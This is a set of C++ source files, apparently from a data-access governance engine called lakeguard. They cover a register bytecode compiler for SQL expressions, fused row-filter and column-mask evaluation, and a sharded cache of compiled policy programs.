      return Status::DataLoss("program writes register out of range");
    }
    switch (inst.op) {
      case FusedOpCode::kLoadColumn:
        regs[inst.dst] =
            std::make_shared<ColumnRefExpr>(inst.name, inst.ref_index);
        break;
      case FusedOpCode::kLoadConst:
        regs[inst.dst] = Lit(inst.literal);
        break;
      case FusedOpCode::kBinary: {
        LG_ASSIGN_OR_RETURN(ExprPtr l, reg_at(inst.a));
        ExprPtr r;
        if (inst.b == kNoReg) {
          r = Lit(inst.literal);
        } else {
          LG_ASSIGN_OR_RETURN(r, reg_at(inst.b));
        }
        regs[inst.dst] = BinOp(inst.bin_op, std::move(l), std::move(r));
        break;
      }
      case FusedOpCode::kUnary: {
        LG_ASSIGN_OR_RETURN(ExprPtr c, reg_at(inst.a));
        regs[inst.dst] =
            std::make_shared<UnaryOpExpr>(inst.un_op, std::move(c));
        break;
      }
      case FusedOpCode::kIsNull: {
        LG_ASSIGN_OR_RETURN(ExprPtr c, reg_at(inst.a));
        regs[inst.dst] =
            std::make_shared<IsNullExpr>(std::move(c), inst.negated);
        break;
      }
      case FusedOpCode::kIn: {
        LG_ASSIGN_OR_RETURN(ExprPtr c, reg_at(inst.a));
        regs[inst.dst] =
            std::make_shared<InExpr>(std::move(c), inst.list, inst.negated);
        break;
      }
      case FusedOpCode::kLike: {
        LG_ASSIGN_OR_RETURN(ExprPtr c, reg_at(inst.a));
        regs[inst.dst] = std::make_shared<LikeExpr>(std::move(c), inst.pattern,
                                                    inst.negated);
        break;
      }
      case FusedOpCode::kCast: {
        LG_ASSIGN_OR_RETURN(ExprPtr c, reg_at(inst.a));
        regs[inst.dst] = CastTo(std::move(c), inst.cast_target);
        break;
      }
      case FusedOpCode::kCase: {
        if (inst.args.size() % 2 != 0) {
          return Status::DataLoss("malformed CASE instruction");
        }
        std::vector<CaseExpr::Branch> branches;
        for (size_t k = 0; k + 1 < inst.args.size(); k += 2) {
          CaseExpr::Branch b;
          LG_ASSIGN_OR_RETURN(b.condition, reg_at(inst.args[k]));
          LG_ASSIGN_OR_RETURN(b.value, reg_at(inst.args[k + 1]));
          branches.push_back(std::move(b));
        }
        ExprPtr else_value;
        if (inst.b != kNoReg) {
          LG_ASSIGN_OR_RETURN(else_value, reg_at(inst.b));
        }
        regs[inst.dst] = std::make_shared<CaseExpr>(std::move(branches),
                                                    std::move(else_value));
        break;
      }
      case FusedOpCode::kCall: {
        std::vector<ExprPtr> args;
        for (uint16_t r : inst.args) {
          LG_ASSIGN_OR_RETURN(ExprPtr a, reg_at(r));
          args.push_back(std::move(a));
        }
        regs[inst.dst] = Func(inst.name, std::move(args));
        break;
      }
    }
  }
  if (program.result_reg >= regs.size() ||
      regs[program.result_reg] == nullptr) {
    return Status::DataLoss("program result register never written");
  }
  return regs[program.result_reg];
}

bool SameInstructionStream(const CompiledExpr& a, const CompiledExpr& b) {
  if (a.num_regs != b.num_regs || a.result_reg != b.result_reg ||
      a.out_type != b.out_type || a.instrs.size() != b.instrs.size()) {
    return false;
  }
  for (size_t i = 0; i < a.instrs.size(); ++i) {
    const FusedInstruction& x = a.instrs[i];
    const FusedInstruction& y = b.instrs[i];
    if (x.op != y.op || x.kernel != y.kernel || x.dst != y.dst ||
        x.a != y.a || x.b != y.b || x.args != y.args ||
        x.bin_op != y.bin_op || x.un_op != y.un_op ||
        x.negated != y.negated || x.column_index != y.column_index ||
        x.ref_index != y.ref_index || x.pattern != y.pattern ||
        x.cast_target != y.cast_target || x.out_type != y.out_type ||
        x.row_invariant != y.row_invariant ||
        !(x.literal == y.literal) || x.list.size() != y.list.size() ||
        !EqualsIgnoreCase(x.name, y.name)) {
      return false;
    }
    for (size_t k = 0; k < x.list.size(); ++k) {
      if (!(x.list[k] == y.list[k])) return false;
    }
  }
  return true;
}

}  // namespace lakeguard
