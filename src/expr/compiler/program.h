#ifndef LAKEGUARD_EXPR_COMPILER_PROGRAM_H_
#define LAKEGUARD_EXPR_COMPILER_PROGRAM_H_

#include <cstdint>
#include <string>
#include <vector>

#include "columnar/record_batch.h"
#include "expr/evaluator.h"
#include "expr/expr.h"

namespace lakeguard {

struct BuiltinFunction;

/// Register-based bytecode for vectorized expression evaluation. A compiled
/// program is a flat, type-resolved instruction list produced once per
/// (expression, schema) pair by CompileExpr; RunProgram then executes it
/// over every batch without tree walking, per-node type inference, or boxed
/// Value construction on the common paths.
///
/// One instruction computes one whole column into its destination register.
/// Operand registers are always written by earlier instructions (the
/// compiler emits post-order), so execution is a single forward sweep.
enum class FusedOpCode : uint8_t {
  kLoadColumn = 0,  // dst = input column `column_index`
  kLoadConst = 1,   // dst = literal splatted to batch length
  kBinary = 2,      // dst = bin_op(reg a, reg b | literal), via `kernel`
  kUnary = 3,       // dst = un_op(reg a)
  kIsNull = 4,      // dst = (reg a IS [NOT] NULL)
  kIn = 5,          // dst = reg a [NOT] IN literal list
  kLike = 6,        // dst = reg a [NOT] LIKE pattern
  kCast = 7,        // dst = CAST(reg a AS cast_target)
  kCase = 8,        // args = [c0, v0, c1, v1, ...], b = else reg or kNoReg
  kCall = 9,        // dst = builtin(args...); row-invariant calls splat
};

/// Kernel selected at compile time for a kBinary instruction. Typed kernels
/// run tight loops over the columnar vectors; kGeneric falls back to the
/// row-wise boxed semantics of the interpreter (EvalBinaryScalar), so every
/// operator/type combination the interpreter accepts is also compilable.
enum class FusedKernel : uint8_t {
  kGeneric = 0,
  kInt64Arith = 1,    // + - * % over (int64, int64)
  kInt64Compare = 2,  // = <> < <= > >= over (int64, int64) -> bool
  kFloat64Compare = 3,
  kStringCompare = 4,  // = <> over (string, string) -> bool
  kBool3VL = 5,        // AND / OR with SQL three-valued logic
};

/// Sentinel for "no register" (absent ELSE, immediate operand).
inline constexpr uint16_t kNoReg = 0xFFFF;

struct FusedInstruction {
  FusedOpCode op = FusedOpCode::kLoadConst;
  FusedKernel kernel = FusedKernel::kGeneric;
  uint16_t dst = 0;
  uint16_t a = kNoReg;
  uint16_t b = kNoReg;
  std::vector<uint16_t> args;  // kCall arguments / kCase condition-value pairs

  BinaryOpKind bin_op = BinaryOpKind::kAdd;
  UnaryOpKind un_op = UnaryOpKind::kNot;
  bool negated = false;             // kIsNull / kIn / kLike
  int column_index = -1;            // kLoadColumn: physical input ordinal
  int ref_index = -1;               // kLoadColumn: source ColumnRef index()
  std::string name;                 // kLoadColumn field name / kCall fn name
  std::string pattern;              // kLike
  Value literal;                    // kLoadConst / immediate kBinary operand
  std::vector<Value> list;          // kIn
  TypeKind cast_target = TypeKind::kNull;  // kCast

  /// Result type resolved at compile time (what the interpreter would have
  /// inferred per batch).
  TypeKind out_type = TypeKind::kNull;
  /// True when the instruction's value is independent of the input columns
  /// (constants and context functions). Row-invariant kCall instructions are
  /// evaluated once per batch and splatted — never constant-folded into the
  /// program, because CURRENT_USER / group membership must bind at run time.
  bool row_invariant = false;
  /// Resolved builtin for kCall; re-resolved after deserialization-free
  /// construction, never serialized.
  const BuiltinFunction* fn = nullptr;
};

/// A compiled expression: the program, the schema it was resolved against,
/// and the (marker-stripped) source tree it must stay semantically equal to.
/// Plain aggregate so tests can mutate instructions to drive the PV007
/// rejection path.
struct CompiledExpr {
  Schema input_schema;
  std::vector<FusedInstruction> instrs;
  uint16_t num_regs = 0;
  uint16_t result_reg = 0;
  TypeKind out_type = TypeKind::kNull;
  ExprPtr source;
};

/// Executes `program` over `batch`, producing the result column. Exact
/// drop-in for EvaluateExpr(program.source, batch, ctx).
Result<Column> RunProgram(const CompiledExpr& program, const RecordBatch& batch,
                          const EvalContext& ctx);

/// Executes a predicate program to a selection mask with SQL WHERE
/// semantics (NULL and non-true rows excluded) — drop-in for
/// EvaluatePredicateMask.
Result<std::vector<uint8_t>> RunProgramMask(const CompiledExpr& program,
                                            const RecordBatch& batch,
                                            const EvalContext& ctx);

}  // namespace lakeguard

#endif  // LAKEGUARD_EXPR_COMPILER_PROGRAM_H_
