#ifndef LAKEGUARD_EXPR_COMPILER_POLICY_EVAL_CACHE_H_
#define LAKEGUARD_EXPR_COMPILER_POLICY_EVAL_CACHE_H_

#include <array>
#include <atomic>
#include <cstdint>
#include <functional>
#include <memory>
#include <mutex>
#include <optional>
#include <string>
#include <unordered_map>
#include <vector>

#include "expr/compiler/compiler.h"

namespace lakeguard {

/// Identity of the *effective* policy set a fused program was compiled from:
/// the catalog epoch observed at inspection plus the exact ExprPtrs of the
/// row filter and per-column masks after group-exemption resolution. The
/// ExprPtrs are pinned (shared ownership), so pointer comparison is a sound
/// same-policy check — a dropped-and-recreated identical policy produces a
/// different allocation and therefore a (conservative) mismatch, never a
/// false match.
struct PolicyVersionStamp {
  uint64_t epoch = 0;
  bool found = false;
  std::vector<ExprPtr> policies;
};

/// Pointer-equality of the effective policy sets (epoch is intentionally
/// ignored: an epoch bump caused by an unrelated table must not invalidate
/// this entry).
bool SameStamp(const PolicyVersionStamp& a, const PolicyVersionStamp& b);

/// One output column of a fused scan: either a passthrough of the raw input
/// column or a compiled mask program evaluated over the (row-filtered) batch.
struct MaskSlot {
  bool masked = false;
  std::optional<CompiledExpr> program;  // set iff masked
};

/// The fused evaluator for one (table, principal) scan: row-filter predicate
/// and all column masks compiled against the raw table schema, executed as a
/// single pass per batch by RunFusedPolicy.
struct FusedPolicyProgram {
  std::string table;
  std::string principal;
  uint64_t compiled_epoch = 0;
  Schema input_schema;   // raw table schema the programs are resolved against
  Schema output_schema;  // post-mask schema (field types follow mask types)
  std::optional<CompiledExpr> row_filter;
  std::vector<MaskSlot> columns;  // one per input field
};

/// Compiles a policy region into a fused program. `row_filter` may be null
/// (no row policy); `column_masks` must have one entry per input field, with
/// null meaning passthrough. Fails (so the caller falls back to interpreted
/// evaluation) if any expression is uncompilable.
Result<FusedPolicyProgram> CompileFusedPolicy(
    std::string table, std::string principal, uint64_t epoch,
    const Schema& input, const ExprPtr& row_filter,
    const std::vector<ExprPtr>& column_masks);

/// Evaluates one raw scan batch through the fused program: row filter on the
/// RAW batch first (policy predicates must see pre-mask values), then column
/// masks, then the optional pushed-down `user_filter` over the MASKED batch
/// (user predicates must never see raw values). Returns nullopt when no rows
/// survive. Passthrough columns are shared, not copied.
Result<std::optional<RecordBatch>> RunFusedPolicy(
    const FusedPolicyProgram& program, const CompiledExpr* user_filter,
    const RecordBatch& raw, const EvalContext& ctx);

/// Process-wide cache of fused policy programs keyed by
/// (table, principal, policy-version). Shared across sessions; sharded for
/// concurrent scans. Entries are validated against the catalog epoch by
/// pointer-comparing pinned policy ExprPtrs (PolicyVersionStamp), so an
/// epoch bump from an unrelated DDL revalidates cheaply while a real policy
/// change recompiles before the very next scan.
class PolicyEvalCache {
 public:
  struct Stats {
    uint64_t hits = 0;           // epoch matched, no catalog work at all
    uint64_t revalidations = 0;  // epoch drifted, stamp still matched
    uint64_t misses = 0;         // no entry for the key
    uint64_t invalidations = 0;  // entry found but policies changed
    uint64_t compiles = 0;       // programs built (misses + invalidations)
  };

  struct Lookup {
    std::shared_ptr<const FusedPolicyProgram> program;
    bool hit = false;       // served without compiling
    bool compiled = false;  // compile_fn ran for this call
  };

  using StampFn = std::function<Result<PolicyVersionStamp>()>;
  using CompileFn = std::function<Result<FusedPolicyProgram>()>;

  /// Returns the cached program for (table, principal, version) or compiles
  /// one. `version` is the exact rendering of the plan's policy sources (no
  /// hashing — equal keys mean equal policy text). `stamp_fn` is consulted
  /// only when `current_epoch` differs from the entry's last validated
  /// epoch; `compile_fn` only on miss or invalidation. The shard lock is
  /// held across compilation so concurrent scans of the same key compile
  /// once, not N times.
  Result<Lookup> GetOrCompile(const std::string& table,
                              const std::string& principal,
                              const std::string& version,
                              uint64_t current_epoch, const StampFn& stamp_fn,
                              const CompileFn& compile_fn);

  Stats stats() const;
  size_t size() const;
  void Clear();

 private:
  struct Entry {
    std::shared_ptr<const FusedPolicyProgram> program;
    PolicyVersionStamp stamp;
    uint64_t validated_epoch = 0;
  };
  struct Shard {
    mutable std::mutex mu;
    std::unordered_map<std::string, Entry> map;
  };

  static constexpr size_t kShards = 8;
  std::array<Shard, kShards> shards_;

  std::atomic<uint64_t> hits_{0};
  std::atomic<uint64_t> revalidations_{0};
  std::atomic<uint64_t> misses_{0};
  std::atomic<uint64_t> invalidations_{0};
  std::atomic<uint64_t> compiles_{0};
};

}  // namespace lakeguard

#endif  // LAKEGUARD_EXPR_COMPILER_POLICY_EVAL_CACHE_H_
