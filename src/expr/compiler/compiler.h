#ifndef LAKEGUARD_EXPR_COMPILER_COMPILER_H_
#define LAKEGUARD_EXPR_COMPILER_COMPILER_H_

#include "expr/compiler/program.h"

namespace lakeguard {

/// Lowers `expr` into a flat register program resolved against `input`.
/// FusedPolicyExpr markers are transparent (the compiled source is the
/// marker-stripped tree). Refuses expressions the compiled path must never
/// own: UdfCalls (user code runs only through the sandboxed physical UDF
/// operator) and aggregate calls (lifted by the analyzer). Everything else
/// the interpreter accepts is compilable; unsupported type combinations
/// lower to the generic kernel with interpreter-identical semantics.
///
/// Lowering is deterministic and structure-preserving: compiling the tree
/// DecompileProgram reconstructs yields an identical instruction stream,
/// which is what lets PV007 re-canonicalize a cached program and reject any
/// mutation.
Result<CompiledExpr> CompileExpr(const ExprPtr& expr, const Schema& input);

/// Reconstructs the expression tree a program encodes, from the instruction
/// stream alone (never from CompiledExpr::source — a mutated program must
/// decompile to a *different* tree so the PV007 equivalence check can see
/// the mutation).
Result<ExprPtr> DecompileProgram(const CompiledExpr& program);

/// Field-by-field semantic equality of two instruction streams (register
/// layout, opcodes, kernels, immediates, result types). Used by PV007 to
/// compare a cached program against the re-canonicalized compile of its own
/// decompiled tree.
bool SameInstructionStream(const CompiledExpr& a, const CompiledExpr& b);

}  // namespace lakeguard

#endif  // LAKEGUARD_EXPR_COMPILER_COMPILER_H_
