#include "expr/compiler/policy_eval_cache.h"

namespace lakeguard {

bool SameStamp(const PolicyVersionStamp& a, const PolicyVersionStamp& b) {
  if (a.found != b.found || a.policies.size() != b.policies.size()) {
    return false;
  }
  for (size_t i = 0; i < a.policies.size(); ++i) {
    if (a.policies[i].get() != b.policies[i].get()) return false;
  }
  return true;
}

Result<FusedPolicyProgram> CompileFusedPolicy(
    std::string table, std::string principal, uint64_t epoch,
    const Schema& input, const ExprPtr& row_filter,
    const std::vector<ExprPtr>& column_masks) {
  if (column_masks.size() != input.num_fields()) {
    return Status::InvalidArgument(
        "CompileFusedPolicy: one mask slot per input field required");
  }
  FusedPolicyProgram out;
  out.table = std::move(table);
  out.principal = std::move(principal);
  out.compiled_epoch = epoch;
  out.input_schema = input;
  if (row_filter != nullptr) {
    LG_ASSIGN_OR_RETURN(CompiledExpr rf, CompileExpr(row_filter, input));
    out.row_filter = std::move(rf);
  }
  out.columns.resize(column_masks.size());
  for (size_t i = 0; i < column_masks.size(); ++i) {
    const FieldDef& field = input.field(i);
    if (column_masks[i] == nullptr) {
      out.output_schema.AddField(field);
      continue;
    }
    LG_ASSIGN_OR_RETURN(CompiledExpr mask, CompileExpr(column_masks[i], input));
    out.output_schema.AddField(FieldDef{field.name, mask.out_type, true});
    out.columns[i].masked = true;
    out.columns[i].program = std::move(mask);
  }
  return out;
}

Result<std::optional<RecordBatch>> RunFusedPolicy(
    const FusedPolicyProgram& program, const CompiledExpr* user_filter,
    const RecordBatch& raw, const EvalContext& ctx) {
  // Stage 1: policy row filter over the raw batch.
  RecordBatch filtered = raw;
  if (program.row_filter.has_value()) {
    LG_ASSIGN_OR_RETURN(std::vector<uint8_t> mask,
                        RunProgramMask(*program.row_filter, raw, ctx));
    const size_t kept = MaskCountSet(mask);
    if (kept == 0) return std::optional<RecordBatch>();
    if (kept != raw.num_rows()) filtered = raw.Filter(mask);
  }
  // Stage 2: column masks over the surviving rows.
  RecordBatch masked = filtered;
  bool any_masked = false;
  for (const MaskSlot& slot : program.columns) {
    if (slot.masked) {
      any_masked = true;
      break;
    }
  }
  if (any_masked) {
    std::vector<Column> cols;
    cols.reserve(program.columns.size());
    for (size_t i = 0; i < program.columns.size(); ++i) {
      if (!program.columns[i].masked) {
        cols.push_back(filtered.column(i));
        continue;
      }
      LG_ASSIGN_OR_RETURN(
          Column col, RunProgram(*program.columns[i].program, filtered, ctx));
      cols.push_back(std::move(col));
    }
    masked = RecordBatch(program.output_schema, std::move(cols));
  }
  // Stage 3: pushed-down user predicate over the masked batch.
  if (user_filter != nullptr) {
    LG_ASSIGN_OR_RETURN(std::vector<uint8_t> mask,
                        RunProgramMask(*user_filter, masked, ctx));
    const size_t kept = MaskCountSet(mask);
    if (kept == 0) return std::optional<RecordBatch>();
    if (kept != masked.num_rows()) masked = masked.Filter(mask);
  }
  if (masked.num_rows() == 0) return std::optional<RecordBatch>();
  return std::optional<RecordBatch>(std::move(masked));
}

Result<PolicyEvalCache::Lookup> PolicyEvalCache::GetOrCompile(
    const std::string& table, const std::string& principal,
    const std::string& version, uint64_t current_epoch,
    const StampFn& stamp_fn, const CompileFn& compile_fn) {
  std::string key;
  key.reserve(table.size() + principal.size() + version.size() + 2);
  key.append(table);
  key.push_back('\x1f');
  key.append(principal);
  key.push_back('\x1f');
  key.append(version);

  Shard& shard = shards_[std::hash<std::string>{}(key) % kShards];
  std::lock_guard<std::mutex> lock(shard.mu);
  auto it = shard.map.find(key);
  if (it != shard.map.end()) {
    Entry& entry = it->second;
    if (entry.validated_epoch == current_epoch) {
      hits_.fetch_add(1, std::memory_order_relaxed);
      return Lookup{entry.program, /*hit=*/true, /*compiled=*/false};
    }
    // Epoch drifted since last validation: re-inspect the catalog and
    // pointer-compare the effective policy set.
    LG_ASSIGN_OR_RETURN(PolicyVersionStamp fresh, stamp_fn());
    if (SameStamp(entry.stamp, fresh)) {
      entry.validated_epoch = current_epoch;
      revalidations_.fetch_add(1, std::memory_order_relaxed);
      return Lookup{entry.program, /*hit=*/true, /*compiled=*/false};
    }
    invalidations_.fetch_add(1, std::memory_order_relaxed);
    shard.map.erase(it);
  } else {
    misses_.fetch_add(1, std::memory_order_relaxed);
  }

  LG_ASSIGN_OR_RETURN(PolicyVersionStamp stamp, stamp_fn());
  LG_ASSIGN_OR_RETURN(FusedPolicyProgram compiled, compile_fn());
  compiles_.fetch_add(1, std::memory_order_relaxed);
  Entry entry;
  entry.program =
      std::make_shared<const FusedPolicyProgram>(std::move(compiled));
  entry.stamp = std::move(stamp);
  entry.validated_epoch = current_epoch;
  Lookup result{entry.program, /*hit=*/false, /*compiled=*/true};
  shard.map[key] = std::move(entry);
  return result;
}

PolicyEvalCache::Stats PolicyEvalCache::stats() const {
  Stats s;
  s.hits = hits_.load(std::memory_order_relaxed);
  s.revalidations = revalidations_.load(std::memory_order_relaxed);
  s.misses = misses_.load(std::memory_order_relaxed);
  s.invalidations = invalidations_.load(std::memory_order_relaxed);
  s.compiles = compiles_.load(std::memory_order_relaxed);
  return s;
}

size_t PolicyEvalCache::size() const {
  size_t n = 0;
  for (const Shard& shard : shards_) {
    std::lock_guard<std::mutex> lock(shard.mu);
    n += shard.map.size();
  }
  return n;
}

void PolicyEvalCache::Clear() {
  for (Shard& shard : shards_) {
    std::lock_guard<std::mutex> lock(shard.mu);
    shard.map.clear();
  }
}

}  // namespace lakeguard
