#include "expr/compiler/program.h"

#include "expr/functions.h"

namespace lakeguard {

namespace {

/// Comparison outcome for `cmp` under `op`, where cmp is <0/0/>0.
bool CompareOutcome(BinaryOpKind op, int cmp) {
  switch (op) {
    case BinaryOpKind::kEq:
      return cmp == 0;
    case BinaryOpKind::kNe:
      return cmp != 0;
    case BinaryOpKind::kLt:
      return cmp < 0;
    case BinaryOpKind::kLe:
      return cmp <= 0;
    case BinaryOpKind::kGt:
      return cmp > 0;
    case BinaryOpKind::kGe:
      return cmp >= 0;
    default:
      return false;
  }
}

/// Numeric comparison identical to Value::Compare: both sides widen to
/// double (this is observable for int64 beyond 2^53, so the kernel must
/// not compare the raw int64s).
int NumericCompare(double a, double b) {
  if (a < b) return -1;
  if (a > b) return 1;
  return 0;
}

/// True when no cell of `c` is NULL — unlocks the branchless (and
/// auto-vectorizable) kernel loops. One linear scan of the validity bytes;
/// trivial next to the kernel work it gates.
bool NoNulls(const Column& c) { return c.NullCount() == 0; }

/// Appends src[i] without boxing through Value when the types line up
/// (CASE/COALESCE-style row selection is the hot path for column masks).
Status AppendCell(ColumnBuilder* b, TypeKind out, const Column& src,
                  size_t i) {
  if (src.IsNull(i)) {
    b->AppendNull();
    return Status::OK();
  }
  if (src.kind() == out) {
    switch (out) {
      case TypeKind::kInt64:
        b->AppendInt(src.IntAt(i));
        return Status::OK();
      case TypeKind::kFloat64:
        b->AppendDouble(src.DoubleAt(i));
        return Status::OK();
      case TypeKind::kBool:
        b->AppendBool(src.BoolAt(i));
        return Status::OK();
      case TypeKind::kString:
      case TypeKind::kBinary:
        b->AppendString(src.StringAt(i));
        return Status::OK();
      default:
        break;
    }
  }
  return b->AppendValue(src.GetValue(i));
}

Result<Column> SplatValue(const Value& v, TypeKind col_type, size_t rows) {
  ColumnBuilder b(col_type);
  b.Reserve(rows);
  for (size_t i = 0; i < rows; ++i) {
    LG_RETURN_IF_ERROR(b.AppendValue(v));
  }
  return b.Finish();
}

/// Row-wise fallback identical to the tree interpreter's BinaryOp loop.
Result<Column> GenericBinary(const FusedInstruction& inst, const Column& l,
                             const Column* r, size_t rows) {
  ColumnBuilder b(inst.out_type);
  b.Reserve(rows);
  for (size_t i = 0; i < rows; ++i) {
    const Value rv = (r != nullptr) ? r->GetValue(i) : inst.literal;
    LG_ASSIGN_OR_RETURN(Value v,
                        EvalBinaryScalar(inst.bin_op, l.GetValue(i), rv));
    LG_RETURN_IF_ERROR(b.AppendValue(v));
  }
  return b.Finish();
}

Result<Column> RunBinary(const FusedInstruction& inst, const Column& l,
                         const Column* r, size_t rows) {
  const bool imm = (r == nullptr);
  switch (inst.kernel) {
    case FusedKernel::kInt64Arith: {
      if (l.kind() != TypeKind::kInt64 ||
          (!imm && r->kind() != TypeKind::kInt64) ||
          (imm && !inst.literal.is_int())) {
        return GenericBinary(inst, l, r, rows);
      }
      const int64_t k = imm ? inst.literal.int_value() : 0;
      // Raw-buffer kernel: index writes, no per-cell append branch. The op
      // switch stays out of the row loop.
      std::vector<int64_t> out(rows, 0);
      std::vector<uint8_t> valid(rows, 1);
      const bool dense = NoNulls(l) && (imm || NoNulls(*r));
      auto run = [&](auto&& fn) {
        if (dense) {  // branchless: the null check is hoisted out entirely
          for (size_t i = 0; i < rows; ++i) {
            fn(i, l.IntAt(i), imm ? k : r->IntAt(i));
          }
          return;
        }
        for (size_t i = 0; i < rows; ++i) {
          if (l.IsNull(i) || (!imm && r->IsNull(i))) {
            valid[i] = 0;
            continue;
          }
          fn(i, l.IntAt(i), imm ? k : r->IntAt(i));
        }
      };
      switch (inst.bin_op) {
        case BinaryOpKind::kAdd:
          run([&](size_t i, int64_t x, int64_t y) { out[i] = x + y; });
          break;
        case BinaryOpKind::kSub:
          run([&](size_t i, int64_t x, int64_t y) { out[i] = x - y; });
          break;
        case BinaryOpKind::kMul:
          run([&](size_t i, int64_t x, int64_t y) { out[i] = x * y; });
          break;
        case BinaryOpKind::kMod:
          run([&](size_t i, int64_t x, int64_t y) {
            if (y == 0) {
              valid[i] = 0;
            } else {
              out[i] = x % y;
            }
          });
          break;
        default:
          return Status::Internal("bad int64 arith op");
      }
      return Column::FromInts(std::move(out), std::move(valid));
    }
    case FusedKernel::kInt64Compare: {
      if (l.kind() != TypeKind::kInt64 ||
          (!imm && r->kind() != TypeKind::kInt64) ||
          (imm && !inst.literal.is_int())) {
        return GenericBinary(inst, l, r, rows);
      }
      const double k =
          imm ? static_cast<double>(inst.literal.int_value()) : 0.0;
      std::vector<uint8_t> out(rows, 0);
      std::vector<uint8_t> valid(rows, 1);
      const bool dense = NoNulls(l) && (imm || NoNulls(*r));
      auto run = [&](auto&& cmp) {
        // Widen to double exactly like Value::Compare (observable for
        // int64 beyond 2^53 — the kernel must not compare raw int64s).
        if (dense) {
          for (size_t i = 0; i < rows; ++i) {
            const double x = static_cast<double>(l.IntAt(i));
            const double y = imm ? k : static_cast<double>(r->IntAt(i));
            out[i] = cmp(x, y) ? 1 : 0;
          }
          return;
        }
        for (size_t i = 0; i < rows; ++i) {
          if (l.IsNull(i) || (!imm && r->IsNull(i))) {
            valid[i] = 0;
            continue;
          }
          const double x = static_cast<double>(l.IntAt(i));
          const double y = imm ? k : static_cast<double>(r->IntAt(i));
          out[i] = cmp(x, y) ? 1 : 0;
        }
      };
      switch (inst.bin_op) {
        case BinaryOpKind::kEq:
          run([](double x, double y) { return x == y; });
          break;
        case BinaryOpKind::kNe:
          run([](double x, double y) { return x != y; });
          break;
        case BinaryOpKind::kLt:
          run([](double x, double y) { return x < y; });
          break;
        case BinaryOpKind::kLe:
          run([](double x, double y) { return x <= y; });
          break;
        case BinaryOpKind::kGt:
          run([](double x, double y) { return x > y; });
          break;
        case BinaryOpKind::kGe:
          run([](double x, double y) { return x >= y; });
          break;
        default:
          return Status::Internal("bad int64 compare op");
      }
      return Column::FromBools(std::move(out), std::move(valid));
    }
    case FusedKernel::kFloat64Compare: {
      if (l.kind() != TypeKind::kFloat64 ||
          (!imm && r->kind() != TypeKind::kFloat64) ||
          (imm && !inst.literal.is_double())) {
        return GenericBinary(inst, l, r, rows);
      }
      const double k = imm ? inst.literal.double_value() : 0.0;
      std::vector<uint8_t> out(rows, 0);
      std::vector<uint8_t> valid(rows, 1);
      for (size_t i = 0; i < rows; ++i) {
        if (l.IsNull(i) || (!imm && r->IsNull(i))) {
          valid[i] = 0;
          continue;
        }
        const double y = imm ? k : r->DoubleAt(i);
        out[i] = CompareOutcome(inst.bin_op, NumericCompare(l.DoubleAt(i), y))
                     ? 1
                     : 0;
      }
      return Column::FromBools(std::move(out), std::move(valid));
    }
    case FusedKernel::kStringCompare: {
      if (l.kind() != TypeKind::kString ||
          (!imm && r->kind() != TypeKind::kString) ||
          (imm && !inst.literal.is_string())) {
        return GenericBinary(inst, l, r, rows);
      }
      const std::string* k = imm ? &inst.literal.string_value() : nullptr;
      const bool want_eq = (inst.bin_op == BinaryOpKind::kEq);
      std::vector<uint8_t> out(rows, 0);
      std::vector<uint8_t> valid(rows, 1);
      for (size_t i = 0; i < rows; ++i) {
        if (l.IsNull(i) || (!imm && r->IsNull(i))) {
          valid[i] = 0;
          continue;
        }
        const std::string& y = imm ? *k : r->StringAt(i);
        const bool eq = (l.StringAt(i) == y);
        out[i] = (eq == want_eq) ? 1 : 0;
      }
      return Column::FromBools(std::move(out), std::move(valid));
    }
    case FusedKernel::kBool3VL: {
      if (l.kind() != TypeKind::kBool || imm ||
          r->kind() != TypeKind::kBool) {
        return GenericBinary(inst, l, r, rows);
      }
      const bool is_and = (inst.bin_op == BinaryOpKind::kAnd);
      std::vector<uint8_t> out(rows, 0);
      std::vector<uint8_t> valid(rows, 1);
      if (is_and) {
        for (size_t i = 0; i < rows; ++i) {
          const bool ln = l.IsNull(i), rn = r->IsNull(i);
          // false dominates NULL.
          if ((!ln && !l.BoolAt(i)) || (!rn && !r->BoolAt(i))) {
            out[i] = 0;
          } else if (ln || rn) {
            valid[i] = 0;
          } else {
            out[i] = 1;
          }
        }
      } else {
        for (size_t i = 0; i < rows; ++i) {
          const bool ln = l.IsNull(i), rn = r->IsNull(i);
          // true dominates NULL.
          if ((!ln && l.BoolAt(i)) || (!rn && r->BoolAt(i))) {
            out[i] = 1;
          } else if (ln || rn) {
            valid[i] = 0;
          } else {
            out[i] = 0;
          }
        }
      }
      return Column::FromBools(std::move(out), std::move(valid));
    }
    case FusedKernel::kGeneric:
      return GenericBinary(inst, l, r, rows);
  }
  return Status::Internal("unreachable fused kernel");
}

Result<Column> RunCall(const FusedInstruction& inst, const std::vector<Column>& regs,
                       size_t rows, const EvalContext& ctx) {
  if (inst.fn == nullptr) {
    return Status::Internal("kCall instruction without resolved builtin");
  }
  ColumnBuilder b(inst.out_type);
  b.Reserve(rows);
  std::vector<Value> row_args(inst.args.size());
  if (inst.row_invariant) {
    // Context functions (CURRENT_USER, IS_ACCOUNT_GROUP_MEMBER, ...) are
    // evaluated exactly once per batch against the *current* EvalContext and
    // splatted. They are deliberately never folded into the program at
    // compile time: group membership can change without a catalog epoch
    // bump, so binding them at compile would freeze stale identity state
    // into the shared cache.
    if (rows == 0) return b.Finish();
    for (size_t j = 0; j < inst.args.size(); ++j) {
      row_args[j] = regs[inst.args[j]].GetValue(0);
    }
    LG_ASSIGN_OR_RETURN(Value v, inst.fn->eval(row_args, ctx));
    for (size_t i = 0; i < rows; ++i) {
      LG_RETURN_IF_ERROR(b.AppendValue(v));
    }
    return b.Finish();
  }
  for (size_t i = 0; i < rows; ++i) {
    for (size_t j = 0; j < inst.args.size(); ++j) {
      row_args[j] = regs[inst.args[j]].GetValue(i);
    }
    LG_ASSIGN_OR_RETURN(Value v, inst.fn->eval(row_args, ctx));
    LG_RETURN_IF_ERROR(b.AppendValue(v));
  }
  return b.Finish();
}

}  // namespace

Result<Column> RunProgram(const CompiledExpr& program, const RecordBatch& batch,
                          const EvalContext& ctx) {
  if (batch.num_columns() != program.input_schema.num_fields()) {
    return Status::Internal(
        "compiled program schema mismatch: compiled against " +
        std::to_string(program.input_schema.num_fields()) +
        " columns, batch has " + std::to_string(batch.num_columns()));
  }
  const size_t rows = batch.num_rows();
  std::vector<Column> regs(program.num_regs);
  for (const FusedInstruction& inst : program.instrs) {
    if (inst.dst >= regs.size()) {
      return Status::Internal("compiled program register out of range");
    }
    switch (inst.op) {
      case FusedOpCode::kLoadColumn: {
        if (inst.column_index < 0 ||
            static_cast<size_t>(inst.column_index) >= batch.num_columns()) {
          return Status::Internal("compiled program column out of range");
        }
